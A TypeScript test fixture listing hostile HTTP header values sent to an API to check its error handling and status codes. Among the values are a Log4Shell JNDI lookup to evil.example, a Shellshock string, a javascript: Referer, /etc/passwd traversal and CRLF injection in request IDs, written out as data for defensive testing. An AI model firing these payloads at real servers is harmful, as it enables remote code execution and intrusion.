import { CLUSTER, CLUSTERS, type HostileRequest, table } from './hostile-request';

const CHANGED = { status: 412, code: 'PRE-001' };
const patch = { method: 'PATCH', path: CLUSTER, body: { labels: { a: 'never' } } };

const ifMatch = table(
  [
    ['garbage'],
    [''],
    ['"'],
    ['"0"'],
    ['W/"1"'],
    ['*x'],
    ['**'],
    ['"1'],
    ["'1'"],
    ['"999999999999999999999"'],
    [`"${'x'.repeat(8000)}"`],
  ] as const,
  (value) => ({ ...patch, headers: { 'If-Match': value }, ...CHANGED }),
  (value) => `If-Match: ${value.slice(0, 30)}`,
);

const harmless = table(
  [
    ['If-None-Match', 'garbage'],
    ['If-None-Match', `"${'x'.repeat(8000)}"`],
    ['If-None-Match', '"'.repeat(8000)],
    ['If-Modified-Since', 'Thu, 01 Jan 2099 00:00:00 GMT'],
    ['Range', 'bytes=0-10'],
    ['Range', 'bytes=99999999999-'],
    ['Range', `bytes=${'0-,'.repeat(1000)}`],
    ['Accept', 'application/xml'],
    ['Accept', `${'a/b,'.repeat(1500)}*/*`],
    ['Accept', 'application/json;version=99'],
    ['Accept-Encoding', 'bomb, *;q=0'],
    ['Accept-Language', 'x'.repeat(5000)],
    ['Cookie', 'a='.padEnd(10_000, 'x')],
    ['Authorization', 'Basic cm9vdDpyb290'],
    ['Content-Type', 'text/html'],
    ['Content-Type', 'application/json; boundary=\u00e9'],
    ['Host', 'evil.example'],
    ['Host', 'localhost:99999'],
    ['Host', '[::1'],
    ['Origin', 'https://evil.example'],
    ['Referer', 'javascript:alert(1)'],
    ['User-Agent', '${jndi:ldap://evil.example/a}'],
    ['User-Agent', '() { :;}; /bin/true'],
    ['X-Forwarded-For', '127.0.0.1'],
    ['X-Forwarded-Host', 'evil.example'],
    ['Forwarded', 'for=127.0.0.1;host=evil.example'],
    ['traceparent', '00-zzzz-zzzz-zz'],
    ['traceparent', '0'.repeat(5000)],
    ['tracestate', 'x'.repeat(5000)],
    ['baggage', 'a=b,'.repeat(1000)],
    ['Upgrade', 'h2c'],
    ['Max-Forwards', '0'],
    ['__proto__', 'x'],
    ['constructor', 'x'],
  ] as const,
  (name, value) => ({ path: CLUSTER, headers: { [name]: value }, status: 200 }),
  (name, value) => `${name}: ${value.slice(0, 30)}`,
);

const pageFiles = table(
  [
    ['Range', 'bytes=99999999999-'],
    ['Range', 'bytes=0-1,2-3,4-5'],
    ['If-Match', '"garbage"'],
    ['If-Unmodified-Since', 'Thu, 01 Jan 1970 00:00:00 GMT'],
  ] as const,
  (name, value) => ({
    path: '/openapi-ui/swagger-ui.css',
    headers: { [name]: value },
    status: 200,
  }),
  (name, value) => `a file of the pages with ${name}: ${value}`,
);

const requestIds = table(
  [
    ['a b'],
    ['a\tb'],
    ['x'.repeat(129)],
    [''],
    ['../../etc/passwd'],
    ['<script>'],
    ['é'],
    ['a,b'],
    ['{"a":1}'],
    ['%0d%0a'],
  ] as const,
  (id) => ({
    path: `${CLUSTERS}/2x`,
    headers: { 'X-Request-Id': id },
    status: 404,
    code: 'NTF-001',
  }),
  (id) => `X-Request-Id: ${id.slice(0, 30)}`,
);

export const HEADERS: HostileRequest[] = [...ifMatch, ...harmless, ...pageFiles, ...requestIds];
